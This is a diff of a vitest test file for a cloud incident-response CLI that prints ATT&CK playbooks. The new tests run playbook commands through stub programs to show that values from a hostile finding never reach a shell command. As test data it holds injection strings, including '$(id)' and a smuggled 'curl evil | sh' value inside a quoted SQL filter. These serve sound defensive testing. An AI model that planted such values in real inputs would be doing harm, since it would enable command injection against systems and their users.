@@ -1,7 +1,8 @@
-import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
+import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { nephoscope, temporaryFolder } from '../support/cli.ts';
+import { nephoscope, program, temporaryFolder } from '../support/cli.ts';
 
 const folder = temporaryFolder();
 
@@ -107,7 +108,7 @@ describe('show', () => {
     [['show', 'T1578.002', '--finding', 'x'], 'add --playbook'],
     [['show', 'T1578.002', '--playbook', '--id', 'abcdef'], 'name the file with --finding'],
     [['show', 'new_account_launches', '--playbook'], 'is a rule'],
-    [['show', 'T1003', '--playbook'], 'there is no playbook for it'],
+    [['show', 'T1651', '--playbook'], 'there is no playbook for it'],
   ])('%j ends with 3', (args, message) => {
     const { code, err, out } = nephoscope(args);
     expect([code, out]).toEqual([3, '']);
@@ -160,6 +161,38 @@ describe('show', () => {
   });
 });
 
+/** Every command of a playbook that is printed as data. */
+function commandsIn(value: unknown): string[] {
+  if (Array.isArray(value)) return value.flatMap((one) => (typeof one === 'string' ? [] : commandsIn(one)));
+  if (typeof value !== 'object' || value === null) return [];
+  return Object.entries(value).flatMap(([key, inner]: [string, unknown]) => {
+    if (key !== 'run') return commandsIn(inner);
+    return Array.isArray(inner) ? (inner as string[]) : [String(inner)];
+  });
+}
+
+/** What a shell makes of commands: the words of each program that it calls, which are all stand-ins. */
+function callsOf(commands: readonly string[]): string[][] {
+  const programs = join(folder, 'bin');
+  mkdirSync(programs);
+  const log = join(programs, 'calls');
+  for (const name of ['aws', 'az', 'gcloud', 'nephoscope', 'sha256sum', 'curl', 'sh', 'id']) {
+    const path = join(programs, name);
+    writeFileSync(path, `#!/bin/sh\nprintf '%s\\0' ${name} "$@" >> ${log}\nprintf '\\001\\0' >> ${log}\n`);
+    chmodSync(path, 0o755);
+  }
+  const run = spawnSync('/bin/sh', ['-c', commands.join('\n')], {
+    env: { PATH: programs },
+    encoding: 'utf8',
+  });
+  expect([run.status, run.stderr]).toEqual([0, '']);
+  const calls = readFileSync(log, 'utf8')
+    .split('\u0001\0')
+    .filter((one) => one !== '');
+  expect(calls.length).toBe(commands.length);
+  return calls.map((one) => one.split('\0').slice(0, -1));
+}
+
 describe('a playbook', () => {
   it('is printed for all clouds', () => {
     const { out, code } = nephoscope(['show', 'T1490', '--playbook']);
@@ -190,7 +223,9 @@ describe('a playbook', () => {
       '-f',
       'json',
     ]).out;
-    expect(JSON.parse(json)).toMatchObject({ techniques: ['T1578.002'], for: { id: withDisk?.id } });
+    const data = JSON.parse(json) as { looks: { run: string[] }[] };
+    expect(data).toMatchObject({ techniques: ['T1578.002'], for: { id: withDisk?.id } });
+    expect(data.looks.length).toBeGreaterThan(5);
   });
 
   it('is filled in by explain for a finding and for an incident, which may need several', () => {
@@ -205,6 +240,26 @@ describe('a playbook', () => {
     expect(new Set(actions).size).toBe(actions.length);
   });
 
+  it('asks questions that run as they are', () => {
+    const { out } = nephoscope(['explain', withDisk?.id ?? '', 'examples/aws', '--playbook', '--json', '-q']);
+    const { looks } = JSON.parse(out) as { looks: { title: string; run: string[] }[] };
+    const asked = looks.flatMap(({ run }) => run.filter((one) => one.startsWith('nephoscope query ')));
+    expect(asked.length).toBeGreaterThan(5);
+    const ours = asked.map((one) => one.replace('nephoscope', `"${process.execPath}" ${program}`));
+    const run = spawnSync('/bin/sh', ['-c', ours.join(' &&\n')], { encoding: 'utf8' });
+    expect(run.status, run.stderr).toBe(0);
+    const rows = run.stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as object);
+    // Who acts and what happened to the instance is found again.
+    const principal = 'aws:arn:aws:iam::210987654321:user/tess';
+    expect(rows).toContainEqual(expect.objectContaining({ Principal: principal, Operation: 'RunInstances' }));
+    expect(rows).toContainEqual(
+      expect.objectContaining({ Principal: principal, Events: expect.any(Number) }),
+    );
+  });
+
   it('puts nothing of a hostile finding into a command', () => {
     const [line = ''] = hunted.split('\n').filter((one) => one.includes(withDisk?.id ?? 'nothing'));
     const hostile = line
@@ -215,11 +270,21 @@ describe('a playbook', () => {
     const path = write('hostile.ndjson', hostile);
     const { out, code } = nephoscope(['show', 'T1578.002', '--playbook', '--finding', path]);
     expect(code).toBe(0);
-    const commands = out.split('\n').filter((one) => /^ {4}\S|^ {6}-/.test(one));
-    expect(commands.join('\n')).not.toMatch(/evil|\$\(id\)/);
     expect(out).toContain("--instance-ids '<INSTANCE>'");
     expect(out).toContain('NOT FILLED IN');
     expect(out).not.toContain('\u001b');
+    const data = nephoscope(['show', 'T1578.002', '--playbook', '--finding', path, '-f', 'json']).out;
+    const calls = callsOf(commandsIn(JSON.parse(data)));
+    expect(calls.length).toBeGreaterThan(50);
+    for (const [program, ...words] of calls) {
+      expect(['aws', 'az', 'gcloud', 'nephoscope', 'sha256sum']).toContain(program);
+      expect(words.filter((word) => /^--endpoint-url|\p{Cc}/u.test(word.replaceAll('\n', ' ')))).toEqual([]);
+      // Only questions have texts of the log in them, each one word.
+      if (words[0] !== 'query') expect(words.join(' ')).not.toMatch(/evil|\$\(id\)/);
+    }
+    const asked = calls.filter(([, word]) => word === 'query').map((words) => words[2] ?? '');
+    expect(asked.find((one) => one.includes('ILIKE'))).toContain("'%i-0''; curl evil | sh; ''%'");
+    expect(asked.find((one) => one.includes('Principal ='))).toContain("Principal = '<PRINCIPAL>'");
   });
 
   it.each([
@@ -248,7 +313,7 @@ describe('a pack of one’s own', () => {
     const lint = nephoscope(['rules', 'lint', '-p', pack]);
     expect(lint.code).toBe(2);
     expect(lint.out).toContain("guides/T1578.002.yml:2:1: error GUIDE_KEY_UNKNOWN: there is no key 'titel'");
-    expect(lint.out).toContain("help: Did you mean 'title'?");
+    expect(lint.out).toContain('help: The keys are technique, title, description,');
     expect(lint.out).toContain('  2 | titel: x\n    | ^^^^^');
     const show = nephoscope(['show', 'T1578.002', '-p', pack]);
     expect([show.code, show.err]).toEqual([2, expect.stringContaining('GUIDE_KEY_MISSING')]);
